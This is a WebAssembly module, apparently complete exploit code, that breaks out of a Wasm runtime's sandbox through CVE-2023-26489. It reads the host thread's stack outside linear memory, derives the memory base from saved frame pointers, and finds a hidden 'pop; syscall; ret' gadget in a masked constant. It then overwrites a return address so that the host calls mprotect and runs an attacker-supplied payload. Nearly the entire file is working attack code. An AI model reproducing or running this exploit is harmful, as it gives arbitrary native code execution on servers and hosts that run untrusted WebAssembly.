;; Leaves the sandbox of a code generator with CVE-2023-26489, from the public description of the fault alone: there, the
;; address `index << 3` is computed with 64 bits, so the three bits that WebAssembly drops reach up to 32 GiB beyond the
;; memory's base. Whoever runs this calls `step` until it does not trap any more; 0 means that nothing was found.
;;
;; A word of the host is named by its distance from the base in units of 8 bytes, a slot. The way out:
;;
;; 1. `$nest` calls itself with five marks that no register has room for, so they lie on the stack of the host's
;;    thread, each beside a return address and a saved frame pointer. The innermost call looks for them, page by page
;;    from the end of the guard region on. A page that is not there traps; the next `step` goes on behind it.
;; 2. A saved frame pointer is the address of a place whose slot is known now. So the memory's base is.
;; 3. `$nest` holds a constant whose bytes are `pop rdi; pop rsi; pop rdx; pop rax; syscall; ret`. It is found near the
;;    return address, in the code itself.
;; 4. The innermost return address becomes that of the constant, and the words above it the arguments of
;;    mprotect(payload, 64 KiB, read and execute), and then the payload's address. `$nest` returns.
;;
;; Laid out by whoever assembles this, in memory: the payload at 0x10000; at 0x20000 the system calls that it makes; at
;; 0x30000 the addresses (32 bits) of words that the base is to be added to, up to the first 0.
(module
  (memory (export "memory") 4)
  (global $at (mut i32) (i32.const 0x30000000))
  (global $end i32 (i32.const -512))
  (global $round (mut i64) (i64.const 0))
  ;; Not as they are looked for, so that neither is found where it is only kept.
  (global $mask (mut i64) (i64.const 0x1111111111111111))
  (global $mark (mut i64) (i64.const 0x6d61726b00000000))
  (global $pops_masked (mut i64) (i64.const 0x81d2141e494b4f4e))

  (func $peek (param $slot i32) (result i64)
    (i64.load (i32.shl (local.get $slot) (i32.const 3))))
  (func $poke (param $slot i32) (param $value i64)
    (i64.store (i32.shl (local.get $slot) (i32.const 3)) (local.get $value)))

  ;; Whether five marks lie there, or enough of them: one alone may be a copy.
  (func $marked (param $slot i32) (param $mark i64) (result i32)
    (if (i64.ne (call $peek (local.get $slot)) (local.get $mark)) (then (return (i32.const 0))))
    (i32.and
      (i64.eq (call $peek (i32.add (local.get $slot) (i32.const 1))) (i64.add (local.get $mark) (i64.const 1)))
      (i64.eq (call $peek (i32.add (local.get $slot) (i32.const 4))) (i64.add (local.get $mark) (i64.const 4)))))

  ;; 0 where the last page was reached.
  (func $find (param $mark i64) (result i32)
    (local $slot i32) (local $page_end i32)
    (loop $pages
      (if (i32.eq (global.get $at) (global.get $end)) (then (return (i32.const 0))))
      (local.set $slot (global.get $at))
      (local.set $page_end (i32.add (local.get $slot) (i32.const 512)))
      ;; Before it is looked at.
      (global.set $at (local.get $page_end))
      (loop $words
        (if (call $marked (local.get $slot) (local.get $mark)) (then (return (local.get $slot))))
        (local.set $slot (i32.add (local.get $slot) (i32.const 1)))
        (br_if $words (i32.ne (local.get $slot) (local.get $page_end))))
      (br $pages))
    (unreachable))

  ;; The distance in bytes, from `$from` up to 8 KiB on, of the constant's bytes; 0 if they are not there.
  (func $find_pops (param $from i32) (result i64)
    (local $slot i32) (local $low i64) (local $high i64) (local $shift i64)
    (local.set $slot (local.get $from))
    (loop $words
      (local.set $low (call $peek (local.get $slot)))
      (local.set $high (call $peek (i32.add (local.get $slot) (i32.const 1))))
      (local.set $shift (i64.const 0))
      (loop $bytes
        (if (i64.eq
              (i64.xor (global.get $mask)
                (i64.or (i64.shr_u (local.get $low) (local.get $shift))
                  (select (i64.const 0) (i64.shl (local.get $high) (i64.sub (i64.const 64) (local.get $shift)))
                    (i64.eqz (local.get $shift)))))
              (global.get $pops_masked))
          (then (return
            (i64.add (i64.shl (i64.extend_i32_u (local.get $slot)) (i64.const 3))
              (i64.shr_u (local.get $shift) (i64.const 3))))))
        (local.set $shift (i64.add (local.get $shift) (i64.const 8)))
        (br_if $bytes (i64.lt_u (local.get $shift) (i64.const 64))))
      (local.set $slot (i32.add (local.get $slot) (i32.const 1)))
      (br_if $words (i32.ne (local.get $slot) (i32.add (local.get $from) (i32.const 1024)))))
    (i64.const 0))

  (func $add_base (param $base i64)
    (local $entry i32) (local $word i32)
    (local.set $entry (i32.const 0x30000))
    (loop $entries
      (local.set $word (i32.load (local.get $entry)))
      (if (local.get $word)
        (then
          (i64.store (local.get $word) (i64.add (i64.load (local.get $word)) (local.get $base)))
          (local.set $entry (i32.add (local.get $entry) (i32.const 4)))
          (br $entries)))))

  ;; Returns only if something is not as it should be.
  (func $strike (param $mark i64) (result i64)
    (local $inner i32) (local $outer i32) (local $return i32) (local $base i64) (local $code i64) (local $pops i64)
    (local.set $inner (call $find (local.get $mark)))
    (if (i32.eqz (local.get $inner)) (then (return (i64.const 0))))
    ;; The marks of the call around it lie above.
    (local.set $outer (local.get $inner))
    (loop $words
      (local.set $outer (i32.add (local.get $outer) (i32.const 1)))
      (br_if $words (i32.eqz (call $marked (local.get $outer) (i64.add (local.get $mark) (i64.const 16))))))
    (local.set $return (i32.sub (local.get $inner) (i32.const 1)))
    ;; The frame pointer saved below one return address is the address of the one saved below the next.
    (local.set $base
      (i64.sub (call $peek (i32.sub (local.get $return) (i32.const 1)))
        (i64.shl (i64.extend_i32_u (i32.sub (local.get $outer) (i32.const 2))) (i64.const 3))))
    (if (i64.ne (i64.and (local.get $base) (i64.const 4095)) (i64.const 0)) (then (return (i64.const 1))))
    (local.set $code (i64.sub (call $peek (local.get $return)) (local.get $base)))
    ;; From 1 KiB before the return address on.
    (local.set $pops (call $find_pops
      (i32.wrap_i64 (i64.shr_u (i64.sub (local.get $code) (i64.const 1024)) (i64.const 3)))))
    (if (i64.eqz (local.get $pops)) (then (return (i64.const 2))))
    (call $add_base (local.get $base))
    (call $poke (local.get $return) (i64.add (local.get $base) (local.get $pops)))
    (call $poke (local.get $inner) (i64.add (local.get $base) (i64.const 0x10000)))
    (call $poke (i32.add (local.get $inner) (i32.const 1)) (i64.const 0x10000))
    (call $poke (i32.add (local.get $inner) (i32.const 2)) (i64.const 5))
    (call $poke (i32.add (local.get $inner) (i32.const 3)) (i64.const 10))
    (call $poke (i32.add (local.get $inner) (i32.const 4)) (i64.add (local.get $base) (i64.const 0x10000)))
    (call $poke (i32.add (local.get $inner) (i32.const 5)) (i64.add (local.get $base) (i64.const 0x20000)))
    (i64.const 3))

  (func $nest (param $deep i32) (param $mark i64) (param i64) (param i64)
      (param i64) (param i64) (param i64) (param i64) (param i64) (result i64)
    (if (i32.eqz (local.get $deep)) (then (return (call $strike (local.get $mark)))))
    (i64.xor
      (call $nest (i32.sub (local.get $deep) (i32.const 1)) (local.tee $mark (i64.sub (local.get $mark) (i64.const 16)))
        (i64.const 0) (i64.const 0)
        (local.get $mark)
        (i64.add (local.get $mark) (i64.const 1))
        (i64.add (local.get $mark) (i64.const 2))
        (i64.add (local.get $mark) (i64.const 3))
        (i64.add (local.get $mark) (i64.const 4)))
      (i64.const 0x90c3050f585a5e5f)))

  (func (export "step") (result i64)
    ;; Other marks each time: what an earlier call left on the stack must not be found.
    (global.set $round (i64.add (global.get $round) (i64.const 256)))
    (call $nest (i32.const 3) (i64.add (global.get $mark) (global.get $round))
      (i64.const 0) (i64.const 0) (i64.const 0) (i64.const 0) (i64.const 0) (i64.const 0) (i64.const 0)))
)
